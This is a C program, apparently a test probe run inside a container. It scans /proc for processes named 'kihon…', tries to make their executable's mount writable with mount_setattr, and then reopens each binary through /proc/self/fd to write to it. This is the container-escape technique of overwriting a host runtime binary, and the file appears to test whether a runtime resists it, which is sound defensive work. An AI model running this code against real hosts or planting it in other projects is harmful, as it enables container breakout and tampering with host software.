/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Runs in a container: tries to write to the executable of every process it sees. Each one is opened for reference, which outlives the
 * process, and then opened again for writing, after an attempt to make its mount writable. Ends when the file `/stop` appears.
 * Prints `WRITTEN pid` where a write worked, at last each error of the others once, and how many were tried: `tried N`.
 * Programs of the container are passed over: their names begin otherwise.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#define MOUNT_ATTR_RDONLY 1

struct mount_attributes {
    uint64_t set, clear, propagation, userns;
};

static int errors[256];
static long tried;

static void attempt(int exe, const char *pid) {
    struct mount_attributes writable = {.clear = MOUNT_ATTR_RDONLY};
    char path[64];
    if (syscall(SYS_mount_setattr, exe, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0)
        printf("mount of %s made writable\n", pid);
    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
    const int ways[] = {O_WRONLY, O_RDWR, O_WRONLY | O_APPEND};
    for (int i = 0; i < 3; i++) {
        int fd = open(path, ways[i]);
        /* A program that still runs is busy (ETXTBSY), which is no protection: it ends. */
        for (int again = 0; fd < 0 && errno == ETXTBSY && again < 100000; again++)
            fd = open(path, ways[i]);
        if (fd < 0) {
            errors[errno & 255]++;
            continue;
        }
        printf("WRITTEN %s: %zd\n", pid, write(fd, "", 1));
        close(fd);
    }
    tried++;
}

int main(void) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("ready\n");
    while (access("/stop", F_OK) != 0) {
        DIR *folder = opendir("/proc");
        struct dirent *entry;
        while (folder && (entry = readdir(folder))) {
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            if (atoi(entry->d_name) <= 0)
                continue;
            int exe = open(path, O_PATH);
            if (exe < 0)
                continue;
            snprintf(path, sizeof path, "/proc/%s/comm", entry->d_name);
            char name[32] = "";
            int comm = open(path, O_RDONLY);
            ssize_t n = comm < 0 ? 0 : read(comm, name, sizeof name - 1);
            if (comm >= 0)
                close(comm);
            if (n > 0 && strncmp(name, "kihon", 5) == 0)
                attempt(exe, entry->d_name);
            close(exe);
        }
        if (folder)
            closedir(folder);
    }
    for (int i = 0; i < 256; i++)
        if (errors[i])
            printf("error %s\n", strerror(i));
    printf("tried %ld\n", tried);
    return 0;
}
